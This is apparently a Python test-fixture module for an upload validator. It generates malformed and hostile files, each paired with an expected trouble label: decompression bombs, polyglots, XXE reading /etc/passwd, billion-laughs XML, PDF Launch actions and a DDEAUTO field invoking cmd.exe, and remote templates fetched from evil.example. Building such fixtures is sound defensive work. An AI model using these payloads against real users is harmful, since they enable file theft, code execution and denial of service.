"""Files that are not what they seem: bombs, two files in one, halves, programs in documents.

Each by a name, with the troubles it may be told with; where there are none it is taken as it is.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf

from motcua.modules.documents.ports import Trouble

from . import documents, pages

MEGABYTE = 1024 * 1024
_OLE = bytes.fromhex("d0cf11e0a1b11ae1")
Bad = tuple[Callable[[], bytes], frozenset[Trouble]]


def pdf(change: Callable[[Pdf], None] | None = None, **settings: pikepdf.Encryption) -> bytes:
    """A page with a line drawn on it."""
    made = pikepdf.new()
    page = made.add_blank_page(page_size=(595, 842))
    page.obj.Contents = made.make_stream(b"2 w 100 100 m 400 700 l S")
    if change is not None:
        change(made)
    out = io.BytesIO()
    made.save(out, encryption=settings.get("encryption", False))
    return out.getvalue()


def _zeros(megabytes: int, *, times: int = 1) -> bytes:
    content = zlib.compressobj(9)
    packed = b"".join(content.compress(bytes(MEGABYTE)) for _ in range(megabytes)) + content.flush()
    return packed if times == 1 else zlib.compress(packed, 9)


def _bomb_in_pdf(megabytes: int, times: int) -> bytes:
    def put(made: Pdf) -> None:
        stream = pikepdf.Stream(made, b"")
        filters = Array([Name.FlateDecode] * times)
        stream.write(_zeros(megabytes, times=times), filter=filters)
        made.pages[0].obj.Contents = made.make_indirect(stream)

    return pdf(put)


def _picture_in_pdf(width: int, height: int) -> bytes:
    def put(made: Pdf) -> None:
        image = pikepdf.Stream(made, zlib.compress(bytes(1000)))
        image.Type, image.Subtype, image.Filter = Name.XObject, Name.Image, Name.FlateDecode
        image.Width, image.Height = width, height
        image.ColorSpace, image.BitsPerComponent = Name.DeviceRGB, 8
        made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I=made.make_indirect(image)))
        made.pages[0].obj.Contents = made.make_stream(b"q 500 0 0 500 0 0 cm /I Do Q")

    return pdf(put)


def _launching(made: Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.Launch, F=pikepdf.String("cmd.exe"))


def _launching_by_annotation(made: Pdf) -> None:
    launch = Dictionary(S=Name.Launch, F=pikepdf.String("x"))
    rectangle = Array([0, 0, 9, 9])
    note = Dictionary(Subtype=Name.Link, Rect=rectangle, AA=Dictionary(E=launch))
    made.pages[0].obj.Annots = Array([note])


def _dynamic(made: Pdf) -> None:
    made.Root.NeedsRendering = True
    made.Root.AcroForm = Dictionary(XFA=pikepdf.String("<xdp/>"), Fields=Array([]))


def _thousands_of_pages() -> bytes:
    def add(made: Pdf) -> None:
        for _ in range(600):
            made.add_blank_page()

    return pdf(add)


def _png(width: int, height: int, data: bytes = b"") -> bytes:
    def chunk(name: bytes, body: bytes) -> bytes:
        checked = struct.pack(">I", zlib.crc32(name + body))
        return struct.pack(">I", len(body)) + name + body + checked

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head)
            + chunk(b"IDAT", data or zlib.compress(bytes(1000))) + chunk(b"IEND", b""))  # fmt: skip


def overfull_png() -> bytes:
    """A hundred times as much as its size says."""
    return _png(1000, 1000, _zeros(300))


def _jpeg_of_size(width: int, height: int) -> bytes:
    """The head says a size that the rest does not have."""
    content = bytearray(pages.as_jpeg(pages.corners(("red", "lime", "blue", "white"))))
    place = content.index(b"\xff\xc0")
    content[place + 5 : place + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def _zip_bomb() -> bytes:
    return documents.docx(parts={"word/media/x.xml": bytes(80 * MEGABYTE)})


def _overlapping_parts() -> bytes:
    """Two names for the same bytes, as bombs have thousands."""
    content = bytearray(
        documents.docx(parts={"word/a.xml": b"<a/>" * 400, "word/b.xml": b"<a/>" * 400})
    )
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        first = archive.getinfo("word/a.xml").header_offset
    entry = content.rindex(b"PK\x01\x02", 0, content.rindex(b"word/b.xml"))
    content[entry + 42 : entry + 46] = struct.pack("<I", first)
    return bytes(content)


def _lying_about_size() -> bytes:
    """A part that unpacks to more than its head says."""
    content = bytearray(documents.docx(parts={"word/a.xml": bytes(300_000)}))
    entry = content.rindex(b"PK\x01\x02", 0, content.rindex(b"word/a.xml"))
    content[entry + 24 : entry + 28] = struct.pack("<I", 10)
    return bytes(content)


def _laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    told = f'<!DOCTYPE x [<!ENTITY l0 "ha">{entities}]><x>&l9;</x>'
    return documents.docx(parts={"word/comments.xml": told.encode()})


def _reading_a_file() -> bytes:
    told = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    return documents.docx(parts={"word/comments.xml": told.encode()})


def _field(instruction: str) -> bytes:
    return documents.docx(f"<w:p><w:r><w:instrText>{instruction}</w:instrText></w:r></w:p>")


def _from_outside(kind: str, target: str) -> bytes:
    return documents.docx(relations=documents.related(kind, target, "x1", outside=True))


def _locked_docx() -> bytes:
    return _OLE + bytes(1000) + "EncryptedPackage".encode("utf-16-le") + bytes(1000)


def _half(content: bytes, share: float = 0.6) -> bytes:
    return content[: int(len(content) * share)]


def _photo() -> bytes:
    return pages.as_jpeg(pages.photo())


def _archive() -> bytes:
    return documents.packed({"invoice.exe": b"MZ" + bytes(100)})


def _expect(*troubles: Trouble) -> frozenset[Trouble]:
    return frozenset(troubles)


_BROKEN, _TWO = _expect(Trouble.BROKEN), _expect(Trouble.TWO_KINDS)
_LARGE, _PROGRAM = _expect(Trouble.UNPACKS_TOO_LARGE), _expect(Trouble.HAS_PROGRAM)
_PIXELS, _UNKNOWN = _expect(Trouble.TOO_MANY_PIXELS), _expect(Trouble.UNKNOWN_KIND)
_LOCKED = _expect(Trouble.LOCKED)

BAD: Mapping[str, Bad] = {
    "half a PDF": (lambda: _half(pages.text_pdf()), _BROKEN),
    "a PDF without its end": (lambda: pages.text_pdf()[:-60], _BROKEN),
    "the head of a PDF": (lambda: b"%PDF-1.7\n", _BROKEN),
    "half a JPEG": (lambda: _half(_photo()), _BROKEN),
    "the head of a JPEG": (lambda: b"\xff\xd8\xff\xe0", _BROKEN),
    "half a PNG": (lambda: _half(pages.as_png(pages.page())), _BROKEN),
    "half a HEIC": (lambda: _half(pages.as_heic(pages.page())), _BROKEN),
    "half a DOCX": (lambda: _half(documents.docx()), _BROKEN),
    "a locked PDF": (
        lambda: pdf(encryption=pikepdf.Encryption(user="x", owner="y")), _LOCKED),
    "a locked DOCX": (_locked_docx, _LOCKED),
    "an old document of Word's": (lambda: _OLE + bytes(5000), _UNKNOWN),
    "a program": (lambda: b"MZ" + bytes(5000), _UNKNOWN),
    "a web page": (lambda: b"<!DOCTYPE html><script>alert(1)</script>", _UNKNOWN),
    "a drawing with scripts": (lambda: b"<svg onload='alert(1)'/>", _UNKNOWN),
    "a text": (lambda: "Xin chào".encode(), _UNKNOWN),
    "an archive": (_archive, _UNKNOWN),
    "a spreadsheet": (lambda: documents.docx(main="application/vnd.ms-excel"), _UNKNOWN),
    "a PDF that is an archive": (lambda: pages.text_pdf() + _archive(), _TWO),
    "a JPEG that is an archive": (lambda: _photo() + _archive(), _TWO),
    "a PNG that is an archive": (lambda: pages.as_png(pages.page()) + _archive(), _TWO),
    "a JPEG with an archive of another sort": (
        lambda: _photo()[:-2] + b"Rar!\x1a\x07\x01\x00" + bytes(50), _TWO),
    "a web page that is a PDF": (lambda: b"<script>x</script>\n" + pages.text_pdf(), _TWO),
    "a JPEG that is a PDF": (
        lambda: _photo()[:2] + b"\xff\xfe\x00\x20" + b"%PDF-1.4\n".ljust(30) + _photo()[2:], _TWO),
    "a program that is a document": (lambda: b"MZ" + bytes(60) + documents.docx(), _UNKNOWN),
    "a bomb in a PDF": (lambda: _bomb_in_pdf(300, 1), _LARGE),
    "a bomb in a bomb in a PDF": (lambda: _bomb_in_pdf(700, 2), _LARGE),
    "a bomb in a DOCX": (_zip_bomb, _LARGE),
    "parts of a DOCX that overlap": (_overlapping_parts, _LARGE),
    "a DOCX that lies about its size": (_lying_about_size, _LARGE | _BROKEN),
    "a thousand laughs": (_laughs, _BROKEN),
    "a DOCX that reads a file": (_reading_a_file, _BROKEN),
    "a picture of ten billion pixels": (lambda: _png(100_000, 100_000), _PIXELS),
    "a picture of a hundred million pixels": (lambda: _png(10_000, 10_000), _PIXELS),
    "a JPEG of four billion pixels": (lambda: _jpeg_of_size(65_500, 65_500), _PIXELS),
    "a picture of a billion pixels in a PDF": (lambda: _picture_in_pdf(40_000, 40_000), _PIXELS),
    "more pages than anybody reads": (
        _thousands_of_pages, _expect(Trouble.TOO_MANY_PAGES)),
    "a PDF that starts a program": (lambda: pdf(_launching), _PROGRAM),
    "a PDF whose link starts a program": (lambda: pdf(_launching_by_annotation), _PROGRAM),
    "a PDF that only one program shows": (lambda: pdf(_dynamic), _PROGRAM),
    "a DOCX with macros": (
        lambda: documents.docx(parts={"word/vbaProject.bin": _OLE}), _PROGRAM),
    "a DOCX that says it has macros": (
        lambda: documents.docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        _PROGRAM),
    "a DOCX with another program's object": (
        lambda: documents.docx(parts={"word/embeddings/oleObject1.bin": _OLE}), _PROGRAM),
    "a DOCX with a control": (
        lambda: documents.docx(parts={"word/activeX/activeX1.xml": b"<a/>"}), _PROGRAM),
    "a DOCX with a template from the web": (
        lambda: _from_outside("attachedTemplate", "https://evil.example/x.dotm"), _PROGRAM),
    "a DOCX with a template from a share": (
        lambda: _from_outside("attachedTemplate", "file:///\\\\evil.example\\x.dotm"), _PROGRAM),
    "a DOCX that calls a program": (
        lambda: _field(r"DDEAUTO c:\\windows\\system32\\cmd.exe"), _PROGRAM),
}  # fmt: skip

#: Unusual, and taken all the same.
GOOD: Mapping[str, Callable[[], bytes]] = {
    "a PDF": pages.text_pdf,
    "a PDF of many pages": lambda: pages.text_pdf(30),
    "a PDF after an empty line": lambda: b"\n" + pages.text_pdf(),
    "a PDF whose table of contents is wrong": (
        lambda: pages.text_pdf().replace(b"startxref\n", b"startxref\n9")),
    "a PDF nobody may change": (
        lambda: pdf(encryption=pikepdf.Encryption(user="", owner="y"))),
    "a photo": _photo,
    "a photo with a film behind it": lambda: _photo() + b"\x00\x00\x00\x18ftypmp42" + bytes(5000),
    "a PNG": lambda: pages.as_png(pages.page()),
    "a PNG one sees through": lambda: pages.as_png(pages.page().convert("RGBA")),
    "a PNG of few colours": lambda: pages.as_png(pages.page().quantize(16)),
    "a PNG in black and white": lambda: pages.as_png(pages.page().convert("1")),
    "a PNG of 65,536 greys": lambda: pages.as_png(pages.page().convert("L").convert("I;16")),
    "a JPEG for printers": lambda: pages.as_jpeg(pages.page().convert("CMYK")),
    "a HEIC": lambda: pages.as_heic(pages.page()),
    "a DOCX": documents.docx,
    "a DOCX with a template on the writer's disk": (
        lambda: _from_outside("attachedTemplate", "file:///C:\\Users\\An\\Mau.dotx")),
    "a DOCX with a link": lambda: _from_outside("hyperlink", "https://example.org/"),
}  # fmt: skip
